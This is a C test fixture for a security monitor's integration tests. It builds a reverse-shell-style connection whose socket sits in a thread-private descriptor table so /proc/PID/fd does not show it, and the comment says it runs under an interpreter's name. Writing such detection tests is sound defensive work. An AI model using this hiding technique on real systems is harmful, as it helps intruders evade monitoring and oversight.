/*
 * An attack for the monitor's integration tests, run as root inside a container: a reverse shell whose socket is in a
 * descriptor table of one thread's own. The thread unshares its table (unshare(CLONE_FILES)), connects to ADDRESS:PORT
 * and puts the connection on its stdin, stdout and stderr; the process's /proc/PID/fd shows its leader's table, which
 * holds none of it. The main thread listens on PORT and holds the other end, so nothing leaves the container when
 * ADDRESS is its own. The test runs it under an interpreter's name (the program name is what the monitor reads).
 *
 * Usage: attack-private-fds ADDRESS PORT; prints "ready TID" once the thread's descriptors are in place.
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <netinet/in.h>
#include <pthread.h>
#include <sched.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/socket.h>
#include <unistd.h>

static struct sockaddr_in peer;
static int listener;

static void *hidden(void *unused) {
    (void)unused;
    if (unshare(CLONE_FILES) < 0) {
        perror("unshare");
        exit(1);
    }
    close(listener); /* in this thread's table only */
    int s = socket(AF_INET, SOCK_STREAM, 0);
    if (s < 0 || connect(s, (struct sockaddr *)&peer, sizeof peer) < 0) {
        perror("connect");
        exit(1);
    }
    printf("ready %d\n", gettid());
    fflush(stdout);
    if (dup2(s, 0) < 0 || dup2(s, 1) < 0 || dup2(s, 2) < 0) exit(1);
    close(s);
    for (;;) pause();
    return NULL;
}

int main(int argc, char **argv) {
    if (argc != 3) {
        fprintf(stderr, "usage: %s ADDRESS PORT\n", argv[0]);
        return 2;
    }
    peer.sin_family = AF_INET;
    peer.sin_port = htons((unsigned short)atoi(argv[2]));
    if (inet_pton(AF_INET, argv[1], &peer.sin_addr) != 1) return 2;
    struct sockaddr_in any = {.sin_family = AF_INET, .sin_port = peer.sin_port, .sin_addr = {htonl(INADDR_ANY)}};
    int one = 1;
    listener = socket(AF_INET, SOCK_STREAM, 0);
    if (listener < 0 || setsockopt(listener, SOL_SOCKET, SO_REUSEADDR, &one, sizeof one) < 0
        || bind(listener, (struct sockaddr *)&any, sizeof any) < 0 || listen(listener, 1) < 0) {
        perror("listen");
        return 1;
    }
    pthread_t t;
    if (pthread_create(&t, NULL, hidden, NULL) != 0) return 1;
    int held = accept(listener, NULL, NULL);
    if (held < 0) {
        perror("accept");
        return 1;
    }
    for (;;) pause();
}
